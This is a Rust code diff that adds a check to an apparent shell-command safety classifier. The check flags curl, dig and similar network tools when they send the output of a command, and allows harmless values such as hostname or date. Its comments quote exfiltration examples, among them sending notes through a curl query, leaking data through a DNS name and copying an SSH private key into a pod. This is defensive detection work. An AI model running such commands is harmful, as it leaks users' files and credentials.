@@ -486,6 +486,71 @@ impl Sh<'_> {
                 ),
             );
         }
+        // A command's output in a network program's arguments (`curl "…?d=$(cat notes)"`,
+        // `dig "$(hostname).x.example"`) leaves with the request, whatever the file is. A
+        // login word (`-H "Authorization: Bearer $(gh auth token)"`) is how APIs are called.
+        let program = super::program_name(wrapped(&argv).first().map_or("", String::as_str));
+        // This machine's name, user, system or the time (`?host=$(hostname)`) say little;
+        // git's network subcommands are judged by git's rules.
+        let told = |r: &str| {
+            let mut rest = r.to_string();
+            for c in [
+                "hostname",
+                "hostname -f",
+                "hostname -s",
+                "date",
+                "whoami",
+                "uname",
+                "uname -a",
+                "uname -m",
+                "uname -s",
+                "uname -r",
+                "id -u",
+                "id -un",
+                "pwd",
+                "nproc",
+                "arch",
+            ] {
+                rest = rest
+                    .replace(&format!("$({c})"), "")
+                    .replace(&format!("`{c}`"), "");
+            }
+            // `$(date +%s)`, `$(date -u +%Y-%m-%dT%H:%M:%SZ)`: a format, nothing read.
+            while let Some(at) = rest.find("$(date ") {
+                let Some(len) = rest.get(at..).and_then(|t| t.find(')')) else {
+                    break;
+                };
+                let inner = rest.get(at + 7..at + len).unwrap_or("");
+                if !inner
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || " +-%:._".contains(c))
+                {
+                    break;
+                }
+                rest.replace_range(at..at + len + 1, "");
+            }
+            !rest.contains("$(") && !rest.contains('`')
+        };
+        if secret.is_none()
+            && program != "git"
+            && args::NETWORK_SENDERS.contains(&program)
+            && let Some(r) = raw.iter().enumerate().skip(1).find_map(|(i, r)| {
+                ((r.contains("$(") || r.contains('`'))
+                    && !told(r)
+                    && !super::bind::credential_word(&raw, i)
+                    && !super::bind::url_login(r))
+                .then_some(r)
+            })
+        {
+            self.add(
+                Effect::Mutating,
+                format!(
+                    "{} sends the output of a command (`{}`) over the network",
+                    snippet_words(&argv),
+                    crate::classify::content::prefix(r, 60)
+                ),
+            );
+        }
         // `kubectl exec pod -- echo "$(cat ~/.ssh/id_rsa)"`: the local shell expands the
         // secret, and kubectl carries it to the cluster.
         if let Some(what) = super::bind::secret_to_pod(&argv, &raw, &words) {
